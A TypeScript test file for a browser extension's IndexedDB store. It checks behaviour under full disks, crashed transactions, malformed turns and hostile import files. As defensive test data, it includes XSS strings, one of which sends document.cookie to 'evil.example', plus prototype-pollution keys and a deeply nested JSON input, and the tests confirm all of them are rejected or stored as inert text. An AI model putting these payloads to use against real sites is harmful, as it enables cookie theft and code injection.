// Failure paths of the store: a full disk, a write that dies half way, bad and hostile input. The rule in every
// case: the error reaches the caller, and what was stored before is exactly as it was.
import { afterEach, describe, expect, it } from 'vitest';
import * as v from 'valibot';
import { saveConversation, saveTurns } from './capture';
import { recordDetection } from './learn';
import { exportData, exportJson, importData, ImportError } from './export';
import { T0, chatTurn, ctx, det, freshDb } from './test-utils';
import type { TwiceDB } from './db';
import { CaptureTurnsSchema, validateTurns } from '../protocol';

const conv = { site: 'chatgpt' as const, conversationId: 'c1', title: 'Parser', project: null, url: 'https://chatgpt.com/c/c1' };
const turn = (i: number, text?: string) => chatTurn(i, text);

/**
 * Makes IndexedDB itself refuse writes to `stores` the way a full disk does (a QuotaExceededError DOMException
 * from put/add), below Dexie, so Dexie's own transaction handling is what gets tested.
 */
const restore: (() => void)[] = [];
function failWrites(stores: string[], error: () => Error = () => new DOMException('The quota has been exceeded.', 'QuotaExceededError')): void {
  const proto = globalThis.IDBObjectStore.prototype as unknown as Record<'put' | 'add', (...a: unknown[]) => unknown>;
  for (const method of ['put', 'add'] as const) {
    const original = proto[method]!;
    proto[method] = function (this: IDBObjectStore, ...args: unknown[]) {
      if (stores.includes(this.name)) throw error();
      return original.apply(this, args);
    };
    restore.push(() => {
      proto[method] = original;
    });
  }
}
afterEach(() => {
  while (restore.length) restore.pop()!();
});

async function snapshot(db: TwiceDB): Promise<string> {
  return JSON.stringify(await exportData(db, T0));
}

describe('storage quota exceeded', () => {
  it('saveTurns surfaces the error and leaves earlier turns and the conversation untouched', async () => {
    const db = freshDb('quota-turns');
    const c = await saveConversation(db, conv, T0);
    await saveTurns(db, c, [turn(0), turn(1)], T0);
    const before = await snapshot(db);

    failWrites(['turns']);
    const err = await saveTurns(db, c, [turn(0, 'edited'), turn(2), turn(3)], T0 + 1).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(Error);
    expect((err as Error).name).toBe('QuotaExceededError');
    expect(await snapshot(db)).toBe(before);

    // Once space is back the same batch goes through: nothing was marked as stored on the failed attempt.
    restore.splice(0).forEach((r) => r());
    const retry = await saveTurns(db, c, [turn(0, 'edited'), turn(2), turn(3)], T0 + 2);
    expect(retry.added.map((t) => t.turnId)).toEqual(['t2', 't3']);
    expect(retry.changed.map((t) => t.text)).toEqual(['edited']);
  });

  it('a conversation write failing after the turns were written rolls the turns back', async () => {
    const db = freshDb('quota-conv');
    const c = await saveConversation(db, conv, T0);
    await saveTurns(db, c, [turn(0)], T0);
    const before = await snapshot(db);
    // saveTurns writes turns first and the conversation's count last: fail the last write.
    failWrites(['conversations']);
    await expect(saveTurns(db, c, [turn(1), turn(2)], T0 + 1)).rejects.toMatchObject({ name: 'QuotaExceededError' });
    expect(await snapshot(db)).toBe(before);
    expect(await db.turns.count()).toBe(1);
  });

  it('recordDetection surfaces the error and keeps existing rules and corrections', async () => {
    const db = freshDb('quota-detect');
    await recordDetection(db, { detection: det("Don't add comments to the code.", { kind: 'preference', confidence: 0.9 }), conversation: ctx(), turnKey: 'k1', now: T0 });
    const before = await snapshot(db);
    failWrites(['corrections', 'rules']);
    await expect(
      recordDetection(db, { detection: det('Use REST, not GraphQL.', { confidence: 0.9 }), conversation: ctx(), turnKey: 'k2', now: T0 + 1 }),
    ).rejects.toMatchObject({ name: 'QuotaExceededError' });
    expect(await snapshot(db)).toBe(before);
  });
});

describe('transactions: a crash between correction and rule update', () => {
  it('a new lesson whose rule write fails leaves no orphan correction and no half-made rule', async () => {
    const db = freshDb('tx-new');
    failWrites(['rules'], () => new Error('crash'));
    await expect(
      recordDetection(db, { detection: det('Use REST, not GraphQL.', { confidence: 0.96 }), conversation: ctx(), turnKey: 'k1', now: T0 }),
    ).rejects.toThrow('crash');
    expect(await db.corrections.count()).toBe(0);
    expect(await db.rules.count()).toBe(0);
  });

  it('a repeated lesson whose rule update fails leaves the rule as it was and no orphan correction', async () => {
    const db = freshDb('tx-merge');
    const first = await recordDetection(db, { detection: det("Don't add comments to the code.", { kind: 'preference', confidence: 0.9 }), conversation: ctx(), turnKey: 'k1', now: T0 });
    expect(first.action).toBe('created');
    const before = await snapshot(db);

    // Only the rule's update fails: the correction write before it succeeds inside the transaction.
    failWrites(['rules'], () => new Error('crash'));
    await expect(
      recordDetection(db, { detection: det("Don't add comments to code.", { kind: 'preference', confidence: 0.9 }), conversation: ctx('chatgpt:c2'), turnKey: 'k2', now: T0 + 1 }),
    ).rejects.toThrow('crash');
    expect(await snapshot(db)).toBe(before);
    const orphans = (await db.corrections.toArray()).filter((c) => c.ruleId === null || !first.rule || c.ruleId !== first.rule.id);
    expect(orphans).toEqual([]);

    // And the same lesson, retried after the crash, merges exactly once.
    restore.splice(0).forEach((r) => r());
    const retry = await recordDetection(db, { detection: det("Don't add comments to code.", { kind: 'preference', confidence: 0.9 }), conversation: ctx('chatgpt:c2'), turnKey: 'k2', now: T0 + 2 });
    expect(retry.action).toBe('merged');
    expect(await db.rules.count()).toBe(1);
    expect((await db.rules.get(first.rule!.id!))!.corrections).toBe(2);
    expect(await db.corrections.count()).toBe(2);
  });

  it('the same detection recorded twice (a re-sent turn after a worker restart) is one correction', async () => {
    const db = freshDb('tx-dup');
    const input = { detection: det('Use REST, not GraphQL.', { confidence: 0.9 }), conversation: ctx(), turnKey: 'k1', now: T0 };
    const [a, b] = await Promise.all([recordDetection(db, input), recordDetection(db, { ...input, now: T0 + 1 })]);
    expect([a.action, b.action].sort()).toEqual(['created', 'duplicate']);
    expect(await db.corrections.count()).toBe(1);
    expect(await db.rules.count()).toBe(1);
  });
});

describe('bad turn input', () => {
  it('stores binary-looking text, mixed scripts, emoji and an empty turn verbatim without disturbing the others', async () => {
    const db = freshDb('bad-text');
    const c = await saveConversation(db, conv, T0);
    const binary = Array.from({ length: 2048 }, (_, i) => String.fromCharCode(i % 65536)).join('') + '\uFFFD\uD800';
    const mixed = 'Fix the عربي parser — 日本語テキスト, ελληνικά, עברית, हिन्दी; 👩‍💻🇬🇧 e\u0301 \u202Ereversed\u202C';
    const texts = ['ordinary', binary, mixed, '', '<img src=x onerror=alert(1)>'];
    const r = await saveTurns(db, c, texts.map((t, i) => turn(i, t)), T0);
    expect(r.added).toHaveLength(texts.length);
    const stored = await db.turns.orderBy('key').toArray();
    expect(stored.map((t) => t.text)).toEqual(texts);
    // The same batch again is recognised as unchanged (hashing must be stable for odd strings).
    expect(await saveTurns(db, c, texts.map((t, i) => turn(i, t)), T0 + 1)).toMatchObject({ added: [], changed: [] });
  });

  it('a 1 MB turn does not drop its batch: it is cut to the cap and counted', () => {
    const message = (text: string) => ({
      site: 'chatgpt',
      layout: 'article',
      page: { url: 'https://chatgpt.com/c/c1', conversationId: 'c1', project: null, temporary: false, title: null },
      turns: [{ turnId: 't0', role: 'user', text, index: 0 }],
    });
    expect(v.safeParse(CaptureTurnsSchema, message('x'.repeat(200_000))).success).toBe(true);
    const big = v.safeParse(CaptureTurnsSchema, message('x'.repeat(1_000_000)));
    expect(big.success).toBe(true);
    const batch = validateTurns((big.output as { turns: unknown[] }).turns);
    expect(batch.turns[0]!.text).toHaveLength(200_000);
    expect(batch.issues).toEqual({ text: 1 });
    expect(v.safeParse(CaptureTurnsSchema, message('')).success).toBe(true);
  });

  it('validates each turn on its own: malformed ones are skipped, over-long ids get a stable short one', () => {
    const long = 'm'.repeat(5000);
    const first = validateTurns([
      { turnId: 't0', role: 'user', text: 'fine', index: 0 },
      { turnId: 't1', role: 'system', text: 'bad role', index: 1 },
      { turnId: long, role: 'assistant', text: 'long id', index: 2 },
      'not a turn',
    ]);
    expect(first.turns.map((t) => t.text)).toEqual(['fine', 'long id']);
    expect(first.turns[1]!.turnId.length).toBeLessThanOrEqual(300);
    expect(first.issues).toEqual({ malformed: 2, id: 1 });
    // The same long id maps to the same short one, so a re-sent turn updates instead of duplicating.
    expect(validateTurns([{ turnId: long, role: 'assistant', text: 'again', index: 2 }]).turns[0]!.turnId).toBe(first.turns[1]!.turnId);
  });

  it('a 200,000-character turn is stored whole next to small ones', async () => {
    const db = freshDb('big');
    const c = await saveConversation(db, conv, T0);
    const big = 'lorem ipsum '.repeat(20_000).slice(0, 200_000);
    await saveTurns(db, c, [turn(0, 'before'), turn(1, big), turn(2, 'after')], T0);
    expect((await db.turns.get('chatgpt:c1:t1'))!.text).toHaveLength(200_000);
    expect(await db.turns.count()).toBe(3);
  });
});

describe('hostile import files', () => {
  async function seeded(): Promise<{ db: TwiceDB; json: string; good: Record<string, unknown[]> & Record<string, unknown> }> {
    const db = freshDb('imp');
    const c = await saveConversation(db, conv, T0);
    await saveTurns(db, c, [turn(0, 'hello')], T0);
    await recordDetection(db, { detection: det('Use REST, not GraphQL.', { confidence: 0.96 }), conversation: ctx(), turnKey: 'chatgpt:c1:t0', now: T0 });
    const json = await exportJson(db, T0);
    return { db, json, good: JSON.parse(json) as Record<string, unknown[]> & Record<string, unknown> };
  }

  it('rejects non-objects, wrong types, over-limit counts, non-finite numbers and oversized text, changing nothing', async () => {
    const { db, good } = await seeded();
    const before = await snapshot(db);
    const rules = good.rules as Record<string, unknown>[];
    const turns = good.turns as Record<string, unknown>[];
    const many = Array.from({ length: 20_001 }, (_, i) => ({ ...rules[0], id: i + 1, text: `rule ${i}` }));
    const cases: unknown[] = [
      null,
      42,
      'null',
      '[]',
      JSON.stringify([good]),
      JSON.stringify({ ...good, version: '1' }),
      JSON.stringify({ ...good, rules: 'all of them' }),
      JSON.stringify({ ...good, rules: [{ ...rules[0], id: '1' }] }),
      JSON.stringify({ ...good, rules: [{ ...rules[0], status: 'root' }] }),
      JSON.stringify({ ...good, rules: [{ ...rules[0], id: -3 }] }),
      JSON.stringify({ ...good, rules: many }),
      JSON.stringify({ ...good, turns: [{ ...turns[0], text: 'x'.repeat(1_000_000) }] }),
      JSON.stringify({ ...good, turns: [{ ...turns[0], site: 'evil.example' }] }),
      JSON.stringify({ ...good, exportedAt: 1 }).replace('"exportedAt":1', '"exportedAt":1e999'),
      // Deep nesting must fail cleanly (JSON.parse may hit the stack limit), not crash the worker.
      '['.repeat(100_000) + ']'.repeat(100_000),
    ];
    for (const input of cases) {
      const err = await importData(db, input).catch((e: unknown) => e);
      expect(err, String(input).slice(0, 80)).toBeInstanceOf(ImportError);
    }
    expect(await snapshot(db)).toBe(before);
  });

  it('rejects duplicated conversation keys, turn keys and correction ids', async () => {
    const { db, good } = await seeded();
    const before = await snapshot(db);
    const dup = (table: string) => JSON.stringify({ ...good, [table]: [...good[table]!, good[table]![0]] });
    await expect(importData(db, dup('conversations'))).rejects.toThrow(/conversation "chatgpt:c1" twice/);
    await expect(importData(db, dup('turns'))).rejects.toThrow(/turn "chatgpt:c1:t0" twice/);
    await expect(importData(db, dup('corrections'))).rejects.toThrow(/correction id "1" twice/);
    const app = { id: 1, ruleIds: [], site: 'chatgpt', conversationKey: null, insertedAt: 1, outcome: 'unknown' };
    await expect(importData(db, { ...good, applications: [app, { ...app, insertedAt: 2 }] })).rejects.toThrow(/application id "1" twice/);
    expect(await snapshot(db)).toBe(before);
  });

  it('drops unknown fields and __proto__ keys instead of storing them or polluting prototypes', async () => {
    const { good } = await seeded();
    const dst = freshDb('imp-proto');
    const rules = good.rules as Record<string, unknown>[];
    const hostile = JSON.stringify({ ...good, rules: [{ ...rules[0], evil: '<script>', isAdmin: true }] }).replace(
      '"format":',
      '"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}},"format":',
    );
    await importData(dst, hostile);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    const stored = (await dst.rules.toArray())[0] as unknown as Record<string, unknown>;
    expect(stored.text).toBe('Use REST, not GraphQL.');
    expect(stored).not.toHaveProperty('evil');
    expect(stored).not.toHaveProperty('isAdmin');
  });

  it('dangling references (rule ids, correction ids, conflicts) are cut, not followed', async () => {
    const { good } = await seeded();
    const dst = freshDb('imp-dangling');
    const rules = good.rules as Record<string, unknown>[];
    const corrections = good.corrections as Record<string, unknown>[];
    const data = {
      ...good,
      rules: [{ ...rules[0], conflictWith: 777, supersededBy: 778, examples: [{ correctionId: 779, lesson: 'x', conversationKey: 'k', at: 1 }] }],
      corrections: [{ ...corrections[0], ruleId: 780 }],
      applications: [{ id: 5, ruleIds: [781, rules[0]!.id], site: 'chatgpt', conversationKey: null, insertedAt: 3, outcome: 'unknown', returnedRuleIds: [782] }],
    };
    const rep = await importData(dst, data);
    expect(rep.added.rules).toBe(1);
    const rule = (await dst.rules.toArray())[0]!;
    expect([rule.conflictWith, rule.supersededBy, rule.examples]).toEqual([null, null, []]);
    expect((await dst.corrections.toArray())[0]!.ruleId).toBeNull();
    const app = (await dst.applications.toArray())[0]!;
    expect([app.ruleIds, app.returnedRuleIds]).toEqual([[rule.id], []]);
  });

  it('markup in imported text stays text', async () => {
    const { good } = await seeded();
    const dst = freshDb('imp-markup');
    const rules = good.rules as Record<string, unknown>[];
    const text = '<img src=x onerror="fetch(`https://evil.example/`+document.cookie)"> [click](javascript:alert(1))';
    await importData(dst, { ...good, rules: [{ ...rules[0], text }] });
    expect((await dst.rules.toArray())[0]!.text).toBe(text);
  });
});
